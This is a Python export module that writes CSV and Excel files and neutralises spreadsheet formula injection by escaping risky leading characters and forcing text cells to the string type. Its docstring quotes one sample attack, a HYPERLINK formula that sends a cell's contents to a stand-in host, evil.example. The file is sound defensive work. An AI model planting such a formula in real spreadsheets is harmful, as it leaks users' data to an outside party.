"""The one export writer: every CSV and Excel file the program writes goes through here.

A cell a spreadsheet would run as a formula — text starting with `=`, `+`, `-`, `@`, a tab
or a carriage return — is neutralised with a leading apostrophe (OWASP's "CSV injection"
advice), and Excel cells holding text are typed as strings, so a buyer nick such as
`=HYPERLINK("http://evil.example/?"&B3,"查看详情")` in an imported chat log stays text.
Numbers stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value: str) -> str:
    """`value` as a spreadsheet shows it, never as a formula it would run."""
    return "'" + value if value[:1] in FORMULA_STARTS else value


def safe_cell(value: Any) -> Any:
    """A cell value: text neutralised, None empty, numbers (and bools) kept."""
    if value is None:
        return ""
    if isinstance(value, str):
        return safe_text(value)
    return value


def write_csv_rows(out: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """Header and rows to an open text stream (standard output, or a file `write_csv` opened)."""
    w = csv.writer(out, lineterminator="\n")
    w.writerow([safe_cell(v) for v in header])
    for row in rows:
        w.writerow([safe_cell(v) for v in row])


def write_csv(path: str | Path, header: Sequence[str], rows: Iterable[Sequence[Any]], *,
              bom: bool = True) -> Path:
    """A CSV file, UTF-8 with a BOM (so Excel reads the Chinese) unless `bom` is False."""
    path = Path(path)
    with open(path, "w", encoding="utf-8-sig" if bom else "utf-8", newline="") as out:
        write_csv_rows(out, header, rows)
    return path


@dataclass
class Sheet:
    """One worksheet: a bold shaded header, rows, per-column number formats (by column
    index from 0), columns sized from their text, a frozen pane and bold last row."""

    title: str
    header: Sequence[str]
    rows: list[Sequence[Any]]
    formats: dict[int, str] = field(default_factory=dict)
    freeze: str | None = None
    bold_last: bool = False


def write_xlsx(path: str | Path, sheets: Sequence[Sheet]) -> Path:
    """An Excel workbook of `sheets`."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    path = Path(path)
    wb = Workbook()
    wb.remove(wb.active)
    bold = Font(bold=True)
    fill = PatternFill("solid", fgColor="DDEBF7")
    for spec in sheets:
        ws = wb.create_sheet(spec.title)
        for col, title in enumerate(spec.header, start=1):
            cell = _put(ws, 1, col, title)
            cell.font = bold
            cell.fill = fill
            cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
        for r, row in enumerate(spec.rows, start=2):
            for col, value in enumerate(row, start=1):
                cell = _put(ws, r, col, value)
                fmt = spec.formats.get(col - 1)
                if fmt is not None:
                    cell.number_format = fmt
        if spec.bold_last and spec.rows:
            for cell in ws[len(spec.rows) + 1]:
                cell.font = bold
        for col in range(1, len(spec.header) + 1):
            texts = [spec.header[col - 1], *(row[col - 1] for row in spec.rows if col - 1 < len(row))]
            width = max(8, *(text_width(t) for t in texts if isinstance(t, str)))
            ws.column_dimensions[get_column_letter(col)].width = min(width + 2, 40)
        if spec.freeze:
            ws.freeze_panes = spec.freeze
    wb.save(path)
    return path


def _put(ws: Any, row: int, col: int, value: Any) -> Any:
    cell = ws.cell(row=row, column=col)
    value = None if value is None else safe_cell(value)  # None: an empty cell
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # never a formula, whatever the text
    return cell


def text_width(text: str) -> int:
    """Approximate display width: CJK characters count double."""
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in str(text))
